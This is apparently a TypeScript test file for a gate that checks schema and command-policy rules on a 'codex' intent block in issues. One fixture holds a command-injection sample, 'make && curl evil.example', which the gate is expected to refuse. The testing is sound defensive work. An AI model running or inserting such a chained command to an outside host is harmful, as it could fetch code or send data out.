import { describe, expect, it } from 'vitest';
import { intentBlock } from '../../../src/checks/gates/intent-block.ts';
import { ask } from '../ask.ts';
import { issueOf, UNREAD } from './issue-gate.ts';

const block = (intent: object): string => `\`\`\`codex\n${JSON.stringify(intent)}\n\`\`\`\n`;
const WHOLE = { version: '1.1', task: 'change', instructions: ['Say hello.', 'Say bye.'] };

describe('intent-block', () => {
  it('does not apply to an issue without one', () => {
    expect(ask(intentBlock, issueOf('## Goal\nA'))).toEqual({ outcome: 'not-applicable', reason: 'issue:intent', sentence: 'The issue has no codex block.', places: [] });
  });

  it.each([
    ['no commands', {}],
    ['a command of the policy by its id', { validation: { commands: ['test'] } }],
    ['a command of the policy as it is written there', { validation: { commands: ['npm  test'] } }],
  ])('passes for %s', (_, parts) => {
    expect(ask(intentBlock, issueOf(block({ ...WHOLE, ...parts })))).toEqual({ outcome: 'pass', reason: 'issue:intent', sentence: 'The codex block holds 2 instructions.', places: [] });
  });

  it('fails for a command that would not be run, and names it', () => {
    expect(ask(intentBlock, issueOf(block({ ...WHOLE, validation: { commands: ['test', 'make && curl evil.example'] } })))).toEqual({
      outcome: 'fail',
      reason: 'issue:intent',
      sentence: 'The codex block asks for 1 command that the policy does not run.',
      places: [{ where: 'validation.commands', what: 'make && curl evil.example' }],
    });
  });

  it('fails for a block that is broken, with line and what is wrong', () => {
    expect(ask(intentBlock, issueOf('## Goal\nA\n\n```codex\n{"version": "1.0", "tasks": 1}\n```'))).toEqual({
      outcome: 'fail',
      reason: 'issue:intent',
      sentence: 'The codex block is refused, line 5: version must be "1.1".',
      places: [
        { where: 'line 5', what: 'task is missing: it must be "change"' },
        { where: 'line 5', what: 'instructions is missing: it must be a list' },
        { where: 'line 5', what: 'unknown field "tasks"' },
      ],
    });
  });

  it('does not know whether commands are run when the policy could not be read', () => {
    expect(ask(intentBlock, issueOf(block({ ...WHOLE, validation: { commands: ['test'] } }), null)).outcome).toBe('unknown');
    expect(ask(intentBlock, issueOf(block(WHOLE), null)).outcome).toBe('pass');
    expect(ask(intentBlock, UNREAD).outcome).toBe('unknown');
  });
});
